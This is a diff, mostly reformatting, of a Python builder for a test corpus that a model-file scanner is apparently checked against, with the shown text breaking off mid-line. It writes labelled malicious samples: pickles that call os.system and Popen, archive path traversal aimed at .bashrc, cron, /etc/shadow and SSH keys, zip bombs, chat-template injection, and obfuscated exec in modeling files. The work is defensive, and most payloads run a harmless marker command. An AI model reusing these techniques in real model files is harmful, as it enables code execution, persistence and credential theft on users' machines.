@@ -1,4 +1,4 @@
-"""The labelled corpus: every malicious sample the builders can make, and benign files from the real libraries.
+"""The labelled corpus: every malicious sample the builders can make, and benign files from real libraries.
 
 `build_corpus(folder)` writes one file per technique (or one subfolder per multi-file package) under
 `folder/malicious/<format>/` and `folder/benign/<format>/`, and returns the list of `Sample`s. Payloads
@@ -14,7 +14,6 @@ reason to import (the never-executes test checks that scanning imports none of t
 from __future__ import annotations
 
 import argparse
-import base64
 import importlib.util
 import io
 import json
@@ -43,13 +42,50 @@ CANARY = P.CANARY_MODULE
 CMD = P.HARMLESS_COMMAND
 
 # Modules the payloads name; scanning must import none of them (exact names, or the canary prefix).
-NAMED_MODULES = frozenset({
-    CANARY, "pip", "pty", "mlflow", "runpy", "_pyrepl", "_pyrepl.pager", "_osx_support", "_aix_support",
-    "pydoc", "code", "timeit", "cProfile", "profile", "pdb", "webbrowser", "smtplib", "ftplib", "imaplib",
-    "venv", "ensurepip", "cloudpickle", "dill", "pkgutil", "numpy.f2py", "torch", "pandas", "keras",
-    "tensorflow", "asyncio.unix_events", "ctypes", "distutils", "uuid", "multiprocessing.util",
-    "torch.utils.collect_env", "requests", "sklearn", "joblib", "transformers", "onnxruntime",
-})
+NAMED_MODULES = frozenset(
+    {
+        CANARY,
+        "pip",
+        "pty",
+        "mlflow",
+        "runpy",
+        "_pyrepl",
+        "_pyrepl.pager",
+        "_osx_support",
+        "_aix_support",
+        "pydoc",
+        "code",
+        "timeit",
+        "cProfile",
+        "profile",
+        "pdb",
+        "webbrowser",
+        "smtplib",
+        "ftplib",
+        "imaplib",
+        "venv",
+        "ensurepip",
+        "cloudpickle",
+        "dill",
+        "pkgutil",
+        "numpy.f2py",
+        "torch",
+        "pandas",
+        "keras",
+        "tensorflow",
+        "asyncio.unix_events",
+        "ctypes",
+        "distutils",
+        "uuid",
+        "multiprocessing.util",
+        "torch.utils.collect_env",
+        "requests",
+        "sklearn",
+        "joblib",
+        "transformers",
+        "onnxruntime",
+    }
+)
 
 
 class Sample(NamedTuple):
@@ -83,7 +119,9 @@ class _Writer:
             raise ValueError(f"duplicate corpus path {rel}")
         self.samples.append(Sample(rel.as_posix(), label, technique, fmt, well_known))
 
-    def file(self, label: str, fmt: str, technique: str, name: str, data: bytes, *, unsafe: bool = False) -> None:
+    def file(
+        self, label: str, fmt: str, technique: str, name: str, data: bytes, *, unsafe: bool = False
+    ) -> None:
         rel = Path(label) / fmt / name
         path = self.root / rel
         path.parent.mkdir(parents=True, exist_ok=True)
@@ -96,8 +134,9 @@ class _Writer:
     def good(self, fmt: str, technique: str, name: str, data: bytes) -> None:
         self.file("benign", fmt, technique, name, data)
 
-    def package(self, label: str, fmt: str, technique: str, build: Callable[[Path], object],
-                *, unsafe: bool = False) -> None:
+    def package(
+        self, label: str, fmt: str, technique: str, build: Callable[[Path], object], *, unsafe: bool = False
+    ) -> None:
         rel = Path(label) / fmt / slug(technique)
         folder = self.root / rel
         folder.mkdir(parents=True, exist_ok=True)
@@ -111,7 +150,11 @@ class _Writer:
 _PICKLE_CALLS: list[tuple[str, str, str]] = [
     ("CVE-2025-1716 pip.main", "pip", "main"),
     ("CVE-2025-1716 pip internal main", "pip._internal.cli.main", "main"),
-    ("CVE-2025-10157 submodule of a dangerous module", "asyncio.unix_events", "_UnixSubprocessTransport._start"),
+    (
+        "CVE-2025-10157 submodule of a dangerous module",
+        "asyncio.unix_events",
+        "_UnixSubprocessTransport._start",
+    ),
     ("GHSA-m273 ctypes", "ctypes", "CDLL"),
     ("GHSA-4675 numpy.f2py", "numpy.f2py", "compile"),
     ("GHSA-4675 numpy.f2py.crackfortran eval", "numpy.f2py.crackfortran", "eval"),
@@ -136,16 +179,30 @@ _PICKLE_CALLS: list[tuple[str, str, str]] = [
     ("GHSA-655q torch.serialization.load", "torch.serialization", "load"),
     ("GHSA-655q functools.partial", "functools", "partial"),
     ("GHSA-655q inductor compile_file", "torch._inductor.codecache", "compile_file"),
-    ("modelaudit-e736ebbe sklearn prefix allowlist", "sklearn.utils._testing",
-     "assert_run_python_script_without_output"),
+    (
+        "modelaudit-e736ebbe sklearn prefix allowlist",
+        "sklearn.utils._testing",
+        "assert_run_python_script_without_output",
+    ),
     *(
         (f"fickling UNSAFE_IMPORTS {m}.{n}", m, n)
         for m, n in [
-            ("linecache", "getline"), ("difflib", "unified_diff"), ("gc", "get_objects"), ("platform", "popen"),
-            ("inspect", "getsource"), ("_imp", "create_dynamic"), ("runpy", "run_path"),
-            ("importlib", "import_module"), ("code", "interact"), ("multiprocessing", "Process"),
-            ("marshal", "loads"), ("types", "FunctionType"), ("imp", "load_source"), ("pipes", "Template"),
-            ("smtplib", "SMTP"), ("ftplib", "FTP"),
+            ("linecache", "getline"),
+            ("difflib", "unified_diff"),
+            ("gc", "get_objects"),
+            ("platform", "popen"),
+            ("inspect", "getsource"),
+            ("_imp", "create_dynamic"),
+            ("runpy", "run_path"),
+            ("importlib", "import_module"),
+            ("code", "interact"),
+            ("multiprocessing", "Process"),
+            ("marshal", "loads"),
+            ("types", "FunctionType"),
+            ("imp", "load_source"),
+            ("pipes", "Template"),
+            ("smtplib", "SMTP"),
+            ("ftplib", "FTP"),
         ]
     ),
 ]
@@ -175,13 +232,29 @@ _NOVEL_CALLS: list[tuple[str, str, str, bool]] = [
 def _pickle_samples(w: _Writer) -> None:
     fmt = "pickle"
     for proto in range(6):
-        w.bad(fmt, f"classic os.system protocol {proto}", f"os-system-p{proto}.pkl", P.os_system_pickle(proto),
-              unsafe=True)
+        w.bad(
+            fmt,
+            f"classic os.system protocol {proto}",
+            f"os-system-p{proto}.pkl",
+            P.os_system_pickle(proto),
+            unsafe=True,
+        )
     for technique, module, name in _PICKLE_CALLS:
-        w.bad(fmt, technique, slug(technique) + ".pkl", P.reduce_pickle(module, name, ("x",), proto=4), unsafe=True)
+        w.bad(
+            fmt,
+            technique,
+            slug(technique) + ".pkl",
+            P.reduce_pickle(module, name, ("x",), proto=4),
+            unsafe=True,
+        )
     for technique, module, name, unsafe in _NOVEL_CALLS:
-        w.bad(fmt, technique, slug(technique) + ".pkl", P.reduce_pickle(module, name, (CMD,), proto=4),
-              unsafe=unsafe)
+        w.bad(
+            fmt,
+            technique,
+            slug(technique) + ".pkl",
+            P.reduce_pickle(module, name, (CMD,), proto=4),
+            unsafe=unsafe,
+        )
     inner = P.os_system_pickle(2)
     canary = P.canary_import_pickle()
     shapes: list[tuple[str, str, bytes, bool]] = [
@@ -191,17 +264,34 @@ def _pickle_samples(w: _Writer) -> None:
         ("CVE-2025-10155 plain pickle named .bin", "pytorch_model.bin", P.os_system_pickle(2), True),
         ("picklescan-10 memo GET", "memo-get.pkl", P.memo_stack_global(opcode="GET"), True),
         ("picklescan-23 memo BINGET", "memo-binget.pkl", P.memo_stack_global(opcode="BINGET"), True),
-        ("picklescan-23 memo LONG_BINGET", "memo-long-binget.pkl", P.memo_stack_global(opcode="LONG_BINGET"),
-         True),
-        ("picklescan-52 invalid memo", "invalid-memo.pkl",
-         P.pickle_of(b"h\x09" + P.op_str("system") + b"\x93" + P.op_tuple([P.op_str("x")]) + b"R", 4), False),
+        (
+            "picklescan-23 memo LONG_BINGET",
+            "memo-long-binget.pkl",
+            P.memo_stack_global(opcode="LONG_BINGET"),
+            True,
+        ),
+        (
+            "picklescan-52 invalid memo",
+            "invalid-memo.pkl",
+            P.pickle_of(b"h\x09" + P.op_str("system") + b"\x93" + P.op_tuple([P.op_str("x")]) + b"R", 4),
+            False,
+        ),
         ("GHSA-955r methodcaller _operator", "methodcaller.pkl", P.methodcaller_pickle("_operator"), True),
         ("GHSA-46h3 attrgetter operator", "attrgetter.pkl", P.attrgetter_pickle("operator"), True),
         ("GHSA-9m3x cloudpickle _make_function", "make-function.pkl", P.make_function_pickle(), True),
-        ("GHSA-vvpj pkgutil.resolve_name", "resolve-name.pkl",
-         P.resolver_pickle(("pkgutil", "resolve_name"), "os:system"), True),
+        (
+            "GHSA-vvpj pkgutil.resolve_name",
+            "resolve-name.pkl",
+            P.resolver_pickle(("pkgutil", "resolve_name"), "os:system"),
+            True,
+        ),
         ("modelscan-331 import_module + getattr", "getattr-chain.pkl", P.getattr_chain(), True),
-        ("modelscan-330 numpy __builtins__ planting", "numpy-builtins.pkl", P.numpy_builtins_planting(), True),
+        (
+            "modelscan-330 numpy __builtins__ planting",
+            "numpy-builtins.pkl",
+            P.numpy_builtins_planting(),
+            True,
+        ),
         ("modelscan-267 nested pickle.loads", "nested-loads.pkl", P.nested_loads(inner), True),
         ("nested pickle behind base64", "nested-b64.pkl", P.nested_base64_loads(canary), True),
         ("nested torch.load(BytesIO)", "nested-torch-load.pkl", P.nested_torch_load(inner), True),
@@ -217,16 +307,39 @@ def _pickle_samples(w: _Writer) -> None:
         ("nullifAI broken stream after payload", "nullifai-broken.bin", P.broken_after_payload(), True),
         ("nullifAI truncated after payload", "nullifai-truncated.bin", P.truncated_after_payload(), True),
         ("payload in the 5th stream", "multi-stream.pt", P.multi_stream(4), True),
-        ("legacy torch payload in model stream", "legacy-payload.pt",
-         P.legacy_torch_file(P.reduce_call("os", "system", (CMD,), 2)), True),
+        (
+            "legacy torch payload in model stream",
+            "legacy-payload.pt",
+            P.legacy_torch_file(P.reduce_call("os", "system", (CMD,), 2)),
+            True,
+        ),
         ("computed STACK_GLOBAL operands", "computed.pkl", P.computed_stack_global(), True),
         ("BUILD sets __class__", "class-swap.pkl", P.class_swap_build(), True),
         ("BUILD on an imported function", "build-on-global.pkl", P.build_on_global(), True),
-        ("copyreg._reconstructor of Popen", "copyreg.pkl", P.copyreg_reconstructor("subprocess", "Popen"), True),
-        ("python2 __builtin__.eval", "builtin-eval.pkl", P.reduce_pickle("__builtin__", "eval", ("1+1",), 0), True),
-        ("python2 commands.getoutput", "commands.pkl", P.reduce_pickle("commands", "getoutput", ("id",), 0), True),
-        ("joblib dual interpretation", "dual.joblib",
-         P.joblib_array_stream(P.reduce_call(CANARY, "x", ("y",), 2) + b"0", alignment=None), False),
+        (
+            "copyreg._reconstructor of Popen",
+            "copyreg.pkl",
+            P.copyreg_reconstructor("subprocess", "Popen"),
+            True,
+        ),
+        (
+            "python2 __builtin__.eval",
+            "builtin-eval.pkl",
+            P.reduce_pickle("__builtin__", "eval", ("1+1",), 0),
+            True,
+        ),
+        (
+            "python2 commands.getoutput",
+            "commands.pkl",
+            P.reduce_pickle("commands", "getoutput", ("id",), 0),
+            True,
+        ),
+        (
+            "joblib dual interpretation",
+            "dual.joblib",
+            P.joblib_array_stream(P.reduce_call(CANARY, "x", ("y",), 2) + b"0", alignment=None),
+            False,
+        ),
     ]
     for technique, name, data, unsafe in shapes:
         w.bad(fmt, technique, name, data, unsafe=unsafe)
@@ -234,7 +347,13 @@ def _pickle_samples(w: _Writer) -> None:
     # joblib.load decompresses zlib (its default `compress=3`), gzip, bz2, xz, lzma and lz4 by magic bytes.
     bad = P.os_system_pickle(2)
     w.bad(fmt, "joblib zlib-compressed payload", "zlib.joblib", zlib.compress(bad, 3), unsafe=True)
-    w.bad(fmt, "joblib lzma-alone payload", "lzma.joblib", lzma.compress(bad, format=lzma.FORMAT_ALONE), unsafe=True)
+    w.bad(
+        fmt,
+        "joblib lzma-alone payload",
+        "lzma.joblib",
+        lzma.compress(bad, format=lzma.FORMAT_ALONE),
+        unsafe=True,
+    )
     w.bad(fmt, "joblib gzip payload", "gzip.joblib", C.compress(bad, "gzip"), unsafe=True)
 
 
@@ -252,38 +371,85 @@ def _container_samples(w: _Writer) -> None:
     bad_pickle = C.malicious_pickle()
     plain = [C.stored("archive/data.pkl", C.benign_pickle()), C.stored("archive/version", b"3\n")]
     zips: list[tuple[str, str, bytes, bool]] = [
-        ("CVE-2025-1944 local/central name mismatch", "name-mismatch.pt",
-         C.torch_zip(bad_pickle, local_name="archive/innocent.txt"), True),
+        (
+            "CVE-2025-1944 local/central name mismatch",
+            "name-mismatch.pt",
+            C.torch_zip(bad_pickle, local_name="archive/innocent.txt"),
+            True,
+        ),
         ("CVE-2025-1945 flag bit 0x1", "flag-0x1.pt", C.torch_zip(bad_pickle, flags=0x1), True),
         ("CVE-2025-1945 flag bit 0x20", "flag-0x20.pt", C.torch_zip(bad_pickle, flags=0x20), True),
         ("CVE-2025-1945 flag bit 0x40", "flag-0x40.pt", C.torch_zip(bad_pickle, flags=0x40), True),
         ("CVE-2025-10156 bad CRC", "bad-crc.pt", C.torch_zip(bad_pickle, crc=0xDEADBEEF), True),
-        ("CVE-2025-1889 odd-extension member", "odd-member.pt",
-         C.build_zip([*plain, C.stored("archive/config.p", bad_pickle)]), True),
-        ("pickle hidden in a tensor record", "tensor-record.pt",
-         C.build_zip([*plain, C.stored("archive/data/7", bad_pickle)]), True),
+        (
+            "CVE-2025-1889 odd-extension member",
+            "odd-member.pt",
+            C.build_zip([*plain, C.stored("archive/config.p", bad_pickle)]),
+            True,
+        ),
+        (
+            "pickle hidden in a tensor record",
+            "tensor-record.pt",
+            C.build_zip([*plain, C.stored("archive/data/7", bad_pickle)]),
+            True,
+        ),
         ("torch zip with canary pickle", "canary.pt", C.torch_zip(P.canary_import_pickle()), False),
-        ("zip slip ../", "zip-slip.zip", C.build_zip([C.stored("ok.txt", b"fine"),
-                                                     C.stored("../../.bashrc", b"echo modelcert-test")]), True),
+        (
+            "zip slip ../",
+            "zip-slip.zip",
+            C.build_zip([C.stored("ok.txt", b"fine"), C.stored("../../.bashrc", b"echo modelcert-test")]),
+            True,
+        ),
         ("zip absolute member name", "absolute.zip", C.build_zip([C.stored("/etc/cron.d/x", b"x")]), True),
-        ("zip symlink member leaving the archive", "symlink.zip",
-         C.build_zip([C.stored("weights.bin", b"../../../home/user/.ssh/id_rsa", external_attr=C.SYMLINK_ATTR)]),
-         True),
-        ("zip duplicate member names", "duplicate.pt",
-         C.build_zip([C.stored("archive/data.pkl", C.benign_pickle()), C.stored("archive/data.pkl", bad_pickle)]),
-         True),
-        ("zip overlapping members", "overlap.zip",
-         C.build_zip([C.stored("a.pkl", bad_pickle)], C.ZipExtras(aliases=[("b.txt", 0)])), True),
-        ("pickle hidden between zip members", "gap.zip",
-         C.build_zip([C.stored("README", b"hello")], C.ZipExtras(gap=bad_pickle)), False),
-        ("zip without central directory", "truncated.zip",
-         C.build_zip([C.stored("a.pkl", bad_pickle), C.stored("b", b"y")], C.ZipExtras(omit_central=True)), False),
+        (
+            "zip symlink member leaving the archive",
+            "symlink.zip",
+            C.build_zip(
+                [C.stored("weights.bin", b"../../../home/user/.ssh/id_rsa", external_attr=C.SYMLINK_ATTR)]
+            ),
+            True,
+        ),
+        (
+            "zip duplicate member names",
+            "duplicate.pt",
+            C.build_zip(
+                [C.stored("archive/data.pkl", C.benign_pickle()), C.stored("archive/data.pkl", bad_pickle)]
+            ),
+            True,
+        ),
+        (
+            "zip overlapping members",
+            "overlap.zip",
+            C.build_zip([C.stored("a.pkl", bad_pickle)], C.ZipExtras(aliases=[("b.txt", 0)])),
+            True,
+        ),
+        (
+            "pickle hidden between zip members",
+            "gap.zip",
+            C.build_zip([C.stored("README", b"hello")], C.ZipExtras(gap=bad_pickle)),
+            False,
+        ),
+        (
+            "zip without central directory",
+            "truncated.zip",
+            C.build_zip([C.stored("a.pkl", bad_pickle), C.stored("b", b"y")], C.ZipExtras(omit_central=True)),
+            False,
+        ),
         ("zip bomb 1 GiB of zeros", "bomb.zip", C.zip_bomb(1 << 30), False),
         ("zip nesting bomb", "nest-bomb.zip", C.nested_zips(8, bad_pickle), False),
         ("nested zip with payload", "nested.zip", C.nested_zips(2, bad_pickle), True),
-        ("torch zip under another prefix", "other-prefix.pt", C.torch_zip(bad_pickle, prefix="mymodel"), True),
-        ("torch zip after prepended bytes", "prepended.pt",
-         C.torch_zip(bad_pickle, extras=C.ZipExtras(prefix=b"JUNK" * 8, relative_offsets=True)), True),
+        (
+            "torch zip under another prefix",
+            "other-prefix.pt",
+            C.torch_zip(bad_pickle, prefix="mymodel"),
+            True,
+        ),
+        (
+            "torch zip after prepended bytes",
+            "prepended.pt",
+            C.torch_zip(bad_pickle, extras=C.ZipExtras(prefix=b"JUNK" * 8, relative_offsets=True)),
+            True,
+        ),
         ("pickle + zip polyglot", "polyglot.pt", bad_pickle + C.torch_zip(C.benign_pickle()), True),
     ]
     for technique, name, data, unsafe in zips:
@@ -293,35 +459,79 @@ def _container_samples(w: _Writer) -> None:
     codecs = ["gzip", "bzip2", "xz", "zstd", *(["lz4"] if has("lz4") else [])]
     for codec in codecs:
         inner = C.build_tar([C.TarEntry("weights.bin", bad_pickle), C.TarEntry("config.json", b"{}")])
-        w.bad("tar", f"tar.{codec} with a pickle member", f"model.tar.{codec}", C.compress(inner, codec), unsafe=True)
+        w.bad(
+            "tar",
+            f"tar.{codec} with a pickle member",
+            f"model.tar.{codec}",
+            C.compress(inner, codec),
+            unsafe=True,
+        )
     hostile = [
         ("tar member ../", C.TarEntry("../../etc/cron.d/job", b"x"), True),
         ("tar absolute member", C.TarEntry("/etc/passwd", b"x"), True),
-        ("tar symlink to /etc/shadow", C.TarEntry("link", kind=tarfile.SYMTYPE, linkname="/etc/shadow"), True),
-        ("tar hardlink to /etc/shadow", C.TarEntry("hard", kind=tarfile.LNKTYPE, linkname="/etc/shadow"), True),
+        (
+            "tar symlink to /etc/shadow",
+            C.TarEntry("link", kind=tarfile.SYMTYPE, linkname="/etc/shadow"),
+            True,
+        ),
+        (
+            "tar hardlink to /etc/shadow",
+            C.TarEntry("hard", kind=tarfile.LNKTYPE, linkname="/etc/shadow"),
+            True,
+        ),
         ("tar device member", C.TarEntry("dev", kind=tarfile.CHRTYPE), False),
     ]
     for technique, entry, unsafe in hostile:
         data = C.build_tar([C.TarEntry("model/tensor.raw", b"\0" * 64), entry])
         w.bad("tar", technique, slug(technique) + ".tar", data, unsafe=unsafe)
     hidden = C.build_tar([C.TarEntry("hidden.pkl", bad_pickle)])
-    w.bad("tar", "tar member after the end marker", "after-end.tar",
-          C.build_tar([C.TarEntry("README", b"hi")], after_end=hidden), unsafe=True)
+    w.bad(
+        "tar",
+        "tar member after the end marker",
+        "after-end.tar",
+        C.build_tar([C.TarEntry("README", b"hi")], after_end=hidden),
+        unsafe=True,
+    )
     w.bad("gzip", "gzip-wrapped pickle", "model.pkl.gz", C.compress(bad_pickle, "gzip"), unsafe=True)
-    w.bad("gzip", "gzip-wrapped torch zip", "model.pt.gz", C.compress(C.torch_zip(bad_pickle), "gzip"), unsafe=True)
+    w.bad(
+        "gzip",
+        "gzip-wrapped torch zip",
+        "model.pt.gz",
+        C.compress(C.torch_zip(bad_pickle), "gzip"),
+        unsafe=True,
+    )
     w.bad("gzip", "pickle after the gzip stream", "trailing.gz", C.compress(b"hello", "gzip") + bad_pickle)
-    w.bad("7z", "nullifAI 7z-wrapped torch archive", "model.7z", C.build_7z({"model.pt": C.torch_zip(bad_pickle)}),
-          unsafe=True)
-    w.bad("7z", "7z with torch records", "records.7z",
-          C.build_7z({"archive/data.pkl": bad_pickle, "archive/version": b"3\n"}), unsafe=True)
-    w.bad("7z", "7z member ../", "traversal.7z",
-          C.build_7z_renamed({"xx/evil.pkl": bad_pickle, "ok.pkl": C.benign_pickle()}, {"xx/evil.pkl": "../evil.pkl"}),
-          unsafe=True)
+    w.bad(
+        "7z",
+        "nullifAI 7z-wrapped torch archive",
+        "model.7z",
+        C.build_7z({"model.pt": C.torch_zip(bad_pickle)}),
+        unsafe=True,
+    )
+    w.bad(
+        "7z",
+        "7z with torch records",
+        "records.7z",
+        C.build_7z({"archive/data.pkl": bad_pickle, "archive/version": b"3\n"}),
+        unsafe=True,
+    )
+    w.bad(
+        "7z",
+        "7z member ../",
+        "traversal.7z",
+        C.build_7z_renamed(
+            {"xx/evil.pkl": bad_pickle, "ok.pkl": C.benign_pickle()}, {"xx/evil.pkl": "../evil.pkl"}
+        ),
+        unsafe=True,
+    )
     w.bad("numpy", "CVE-2019-6446 object array pickle", "object.npy", C.object_npy(bad_pickle), unsafe=True)
     w.bad("numpy", "object array with canary pickle", "canary.npy", C.object_npy(P.canary_import_pickle()))
-    npz = C.build_zip([C.stored("ok.npy", C.npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }",
-                                                b"\0" * 4)),
-                       C.stored("obj.npy", C.object_npy(bad_pickle))])
+    npz = C.build_zip(
+        [
+            C.stored("ok.npy", C.npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", b"\0" * 4)),
+            C.stored("obj.npy", C.object_npy(bad_pickle)),
+        ]
+    )
     w.bad("numpy", "CVE-2019-6446 object member of npz", "mixed.npz", npz, unsafe=True)
 
 
@@ -345,13 +555,32 @@ def _torchscript_samples(w: _Writer) -> None:
     fmt = "torchscript"
     for technique, line, unsafe in _TORCHSCRIPT_LINES:
         code = C.BENIGN_TORCHSCRIPT.replace("    return _0\n", f"    {line}\n    return _0\n")
-        w.bad(fmt, f"CVE-2025-32434 {technique}", slug(technique) + ".pt", C.torchscript_zip(code), unsafe=unsafe)
-    w.bad(fmt, "TorchScript import of a canary module", "canary-import.pt",
-          C.torchscript_zip(f"import {CANARY}\n" + C.BENIGN_TORCHSCRIPT), unsafe=True)
-    evil_class = C.BENIGN_TORCHSCRIPT.replace("  training : bool\n", "  p : __torch__.torch.classes.acme.Loader\n")
+        w.bad(
+            fmt,
+            f"CVE-2025-32434 {technique}",
+            slug(technique) + ".pt",
+            C.torchscript_zip(code),
+            unsafe=unsafe,
+        )
+    w.bad(
+        fmt,
+        "TorchScript import of a canary module",
+        "canary-import.pt",
+        C.torchscript_zip(f"import {CANARY}\n" + C.BENIGN_TORCHSCRIPT),
+        unsafe=True,
+    )
+    evil_class = C.BENIGN_TORCHSCRIPT.replace(
+        "  training : bool\n", "  p : __torch__.torch.classes.acme.Loader\n"
+    )
     w.bad(fmt, "TorchScript custom class namespace", "custom-class.pt", C.torchscript_zip(evil_class))
     if has("torch"):
-        w.bad(fmt, "TorchScript scripted torch.save in forward", "scripted-leak.pt", _scripted_leak(), unsafe=True)
+        w.bad(
+            fmt,
+            "TorchScript scripted torch.save in forward",
+            "scripted-leak.pt",
+            _scripted_leak(),
+            unsafe=True,
+        )
 
 
 def _scripted_leak() -> bytes:
@@ -373,21 +602,49 @@ def _scripted_leak() -> bytes:
 def _weights_samples(w: _Writer) -> None:
     header, data = W.f32_pair()
     bad_pickle = C.malicious_pickle()
-    w.bad("safetensors", "safetensors trailing pickle", "trailing.safetensors",
-          W.safetensors_file(header, data + bad_pickle), unsafe=True)
-    hole = {"a": W.st_entry("F32", [1], 0, 4), "b": W.st_entry("F32", [1], 4 + len(bad_pickle), 8 + len(bad_pickle))}
-    w.bad("safetensors", "safetensors hole hiding a pickle", "hole.safetensors",
-          W.safetensors_file(hole, bytes(4) + bad_pickle + bytes(4)), unsafe=True)
+    w.bad(
+        "safetensors",
+        "safetensors trailing pickle",
+        "trailing.safetensors",
+        W.safetensors_file(header, data + bad_pickle),
+        unsafe=True,
+    )
+    hole = {
+        "a": W.st_entry("F32", [1], 0, 4),
+        "b": W.st_entry("F32", [1], 4 + len(bad_pickle), 8 + len(bad_pickle)),
+    }
+    w.bad(
+        "safetensors",
+        "safetensors hole hiding a pickle",
+        "hole.safetensors",
+        W.safetensors_file(hole, bytes(4) + bad_pickle + bytes(4)),
+        unsafe=True,
+    )
     overlap = json.loads(json.dumps(header))
     overlap["b"]["data_offsets"] = [4, 8]
-    w.bad("safetensors", "safetensors overlapping tensors", "overlap.safetensors", W.safetensors_file(overlap, data[:8]))
-    w.bad("safetensors", "safetensors duplicate tensor names", "duplicate.safetensors",
-          W.safetensors_raw('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
-                            '"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', bytes(8)))
+    w.bad(
+        "safetensors",
+        "safetensors overlapping tensors",
+        "overlap.safetensors",
+        W.safetensors_file(overlap, data[:8]),
+    )
+    w.bad(
+        "safetensors",
+        "safetensors duplicate tensor names",
+        "duplicate.safetensors",
+        W.safetensors_raw(
+            '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
+            '"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
+            bytes(8),
+        ),
+    )
 
     def escaping_index(folder: Path) -> None:
-        H.write_json(folder, "model.safetensors.index.json",
-                     {"metadata": {"total_size": 12}, "weight_map": {"a": "../../etc/passwd"}})
+        H.write_json(
+            folder,
+            "model.safetensors.index.json",
+            {"metadata": {"total_size": 12}, "weight_map": {"a": "../../etc/passwd"}},
+        )
         (folder / "model.safetensors").write_bytes(W.safetensors_file(header, data))
 
     w.package("malicious", "safetensors", "safetensors index shard path escape", escaping_index, unsafe=True)
@@ -404,8 +661,11 @@ def _weights_samples(w: _Writer) -> None:
         ("CVE-2024-25664 huge n_kv", W.GGUFBuilder(n_kv=2**62).build(), True),
         ("CVE-2024-21836 huge n_tensors", one_tensor(n_tensors=2**40).build(), True),
         ("CVE-2024-25665 string length overflow", string_overflow.build(), True),
-        ("CVE-2024-25666 array length overflow", W.GGUFBuilder().add_array("x", W.GGUF_U32, [1, 2], declared=2**61)
-         .build(), True),
+        (
+            "CVE-2024-25666 array length overflow",
+            W.GGUFBuilder().add_array("x", W.GGUF_U32, [1, 2], declared=2**61).build(),
+            True,
+        ),
         ("CVE-2024-21802 more than four dims", one_tensor().add_tensor("t", [1, 1, 1, 1, 1]).build(), True),
         ("GGUF tensor offset overflow", one_tensor().add_tensor("a", [8], offset=2**64 - 32).build(), True),
         ("GGUF pickle hidden between tensors", gap.build(), True),
@@ -413,11 +673,22 @@ def _weights_samples(w: _Writer) -> None:
     for technique, blob, unsafe in ggufs:
         w.bad("gguf", technique, slug(technique) + ".gguf", blob, unsafe=unsafe)
     if has("gguf"):
-        w.bad("gguf", "CVE-2024-34359 GGUF chat template SSTI", "ssti.gguf",
-              W.gguf_writer_bytes(w.scratch, chat_template=T.CVE_2024_34359), unsafe=True)
-        w.bad("gguf", "CVE-2026-5760 named GGUF template", "named-template.gguf",
-              W.gguf_writer_bytes(w.scratch, chat_template=T.CHATML, named_templates={"rerank": T.SGLANG_SHAPE}),
-              unsafe=True)
+        w.bad(
+            "gguf",
+            "CVE-2024-34359 GGUF chat template SSTI",
+            "ssti.gguf",
+            W.gguf_writer_bytes(w.scratch, chat_template=T.CVE_2024_34359),
+            unsafe=True,
+        )
+        w.bad(
+            "gguf",
+            "CVE-2026-5760 named GGUF template",
+            "named-template.gguf",
+            W.gguf_writer_bytes(
+                w.scratch, chat_template=T.CHATML, named_templates={"rerank": T.SGLANG_SHAPE}
+            ),
+            unsafe=True,
+        )
 
 
 # ---- chat templates and Hugging Face packages --------------------------------------------------------------
@@ -445,14 +716,28 @@ def _template_samples(w: _Writer) -> None:
         H.write_json(folder, "config.json", H.LLAMA_CONFIG)
 
     def ssti_chat_template_json(folder: Path) -> None:
-        H.write_json(folder, "tokenizer_config.json", H.tokenizer_config(
-            chat_template=[{"name": "default", "template": H.CHAT_TEMPLATE},
-                           {"name": "tool_use", "template": H.SSTI_TEMPLATE}]))
+        H.write_json(
+            folder,
+            "tokenizer_config.json",
+            H.tokenizer_config(
+                chat_template=[
+                    {"name": "default", "template": H.CHAT_TEMPLATE},
+                    {"name": "tool_use", "template": H.SSTI_TEMPLATE},
+                ]
+            ),
+        )
         H.write_json(folder, "chat_template.json", {"chat_template": H.SSTI_TEMPLATE})
 
-    w.package("malicious", "hf", "CVE-2024-34359 tokenizer_config chat_template", ssti_tokenizer_config, unsafe=True)
-    w.package("malicious", "hf", "CVE-2024-34359 named templates and chat_template.json", ssti_chat_template_json,
-              unsafe=True)
+    w.package(
+        "malicious", "hf", "CVE-2024-34359 tokenizer_config chat_template", ssti_tokenizer_config, unsafe=True
+    )
+    w.package(
+        "malicious",
+        "hf",
+        "CVE-2024-34359 named templates and chat_template.json",
+        ssti_chat_template_json,
+        unsafe=True,
+    )
     try:
         from builders import backdoor_templates as B
     except ImportError:
@@ -476,20 +761,39 @@ _PYTHON_FILES: list[tuple[str, str, str]] = [
     ("downloaded code exec", "modeling_download.py", H.REQUESTS_EXEC),
     ("ssh authorized_keys persistence", "modeling_ssh.py", H.SSH_AUTHORIZED_KEYS),
     ("chr chain exec", "modeling_chr.py", H.chr_chain_exec()),
-    ("GHSA-vvpj pkgutil.resolve_name in code", "modeling_resolve.py",
-     f"import pkgutil\npkgutil.resolve_name('os:system')('{CMD}')\n"),
+    (
+        "GHSA-vvpj pkgutil.resolve_name in code",
+        "modeling_resolve.py",
+        f"import pkgutil\npkgutil.resolve_name('os:system')('{CMD}')\n",
+    ),
     ("reversed attribute name", "modeling_reversed.py", f'import os\ngetattr(os, "metsys"[::-1])({CMD!r})\n'),
-    ("canary module import then os.system", "modeling_canary.py",
-     f"import os\nimport {CANARY}\n{CANARY}.boom()\nos.system({CMD!r})\n"),
-    ("novel codecs rot13 exec", "modeling_rot13.py",
-     f"import codecs\nexec(codecs.decode({__import__('codecs').encode(H.PAYLOAD, 'rot13')!r}, 'rot13'))\n"),
-    ("novel os.execv via alias dict", "modeling_execv.py",
-     'import os\nrunners = {"go": os.execv}\nrunners["go"]("/bin/sh", ["sh", "-c", "echo modelcert-test"])\n'),
+    (
+        "canary module import then os.system",
+        "modeling_canary.py",
+        f"import os\nimport {CANARY}\n{CANARY}.boom()\nos.system({CMD!r})\n",
+    ),
+    (
+        "novel codecs rot13 exec",
+        "modeling_rot13.py",
+        f"import codecs\nexec(codecs.decode({__import__('codecs').encode(H.PAYLOAD, 'rot13')!r}, 'rot13'))\n",
+    ),
+    (
+        "novel os.execv via alias dict",
+        "modeling_execv.py",
+        'import os\nrunners = {"go": os.execv}\n'
